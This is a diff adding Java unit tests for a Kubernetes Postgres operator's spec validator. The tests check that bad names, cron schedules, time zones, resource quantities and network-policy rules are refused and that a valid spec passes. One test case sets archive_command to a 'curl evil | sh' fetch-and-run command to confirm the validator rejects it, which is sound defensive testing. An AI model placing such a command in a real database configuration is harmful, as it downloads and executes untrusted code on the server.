@@ -37,4 +37,76 @@ class SpecValidatorTest {
         }
         assertThat(found).containsAll(ManagedSettings.postgres()).containsAll(ManagedSettings.pooler());
     }
+
+    static java.util.List<String> problems(String spec) {
+        return SpecValidator.validate(Fixtures.ldb(spec));
+    }
+
+    /** Each case below was admitted and then produced an object kube-apiserver (or the CronJob controller) refuses. */
+    @Test
+    void refusesWhatWouldMakeObjectsTheApiServerRefuses() {
+        assertThat(SpecValidator.validate(Fixtures.ldb("2024-courses", "replicas: 1\n"))).singleElement().asString()
+                .contains("DNS-1035");
+        assertThat(SpecValidator.validate(Fixtures.ldb("courses.v2", "replicas: 1\n"))).singleElement().asString()
+                .contains("DNS-1035");
+        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"61 25 * * *\"\n")).singleElement().asString()
+                .contains("maintenance.vacuum.schedule");
+        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"0 3 * * 7\"\n")).singleElement().asString()
+                .contains("maintenance.vacuum.schedule");
+        assertThat(problems("maintenance:\n  vacuum:\n    schedule: \"0 3 * * 1-5\"\n    timeZone: Mars/Olympus\n"))
+                .singleElement().asString().contains("maintenance.vacuum.timeZone");
+        assertThat(problems("materializedViews:\n  timeZone: Local\n")).singleElement().asString().contains("timeZone");
+        assertThat(problems("postgres:\n  resources:\n    requests:\n      cpu: abc\n")).singleElement().asString()
+                .contains("postgres.resources.requests.cpu");
+        assertThat(problems("postgres:\n  resources:\n    requests:\n      memory: 2Gi\n    limits:\n      memory: 1Gi\n"))
+                .singleElement().asString().contains("less than or equal to the limit");
+        assertThat(problems("pooler:\n  resources:\n    limits:\n      gpu: 1\n")).singleElement().asString()
+                .contains("not a resource name");
+        assertThat(problems("postgres:\n  storage:\n    storageClassName: Fast_SSD\n")).singleElement().asString()
+                .contains("storageClassName");
+        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - {}\n")).singleElement().asString()
+                .contains("must specify podSelector, namespaceSelector or ipBlock");
+        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.300/8\n"))
+                .singleElement().asString().contains("not a CIDR");
+        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.0/8\n      podSelector: {}\n"))
+                .singleElement().asString().contains("may not be combined");
+        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - podSelector:\n        matchExpressions:\n"
+                + "          - {key: app, operator: Equals, values: [web]}\n")).singleElement().asString()
+                .contains("operator 'Equals'");
+        assertThat(problems("networkPolicy:\n  poolerFrom:\n    - ipBlock:\n        cidr: 10.0.0.0/8\n        except: [11.0.0.0/16]\n"))
+                .singleElement().asString().contains("strictly within");
+        assertThat(problems("postgres:\n  parameters:\n    archive_command: \"curl evil | sh\"\n")).singleElement()
+                .asString().contains("managed by the operator");
+    }
+
+    @Test
+    void acceptsWhatTheApiServerAccepts() {
+        assertThat(problems("""
+                maintenance:
+                  vacuum:
+                    schedule: "*/15 2-4 1,15 JAN-MAR MON-FRI"
+                    timeZone: Europe/Berlin
+                materializedViews:
+                  schedule: "@hourly"
+                  timeZone: UTC
+                postgres:
+                  resources:
+                    requests: {cpu: 500m, memory: 1Gi}
+                    limits: {cpu: "2", memory: 4Gi, hugepages-2Mi: 128Mi}
+                  storage:
+                    storageClassName: fast-ssd.example.com
+                networkPolicy:
+                  poolerFrom:
+                    - namespaceSelector:
+                        matchLabels: {team: web}
+                      podSelector:
+                        matchExpressions:
+                          - {key: app.kubernetes.io/name, operator: In, values: [lms]}
+                    - ipBlock:
+                        cidr: 10.0.0.0/8
+                        except: [10.1.0.0/16]
+                    - ipBlock:
+                        cidr: fd00::/8
+                """)).isEmpty();
+    }
 }
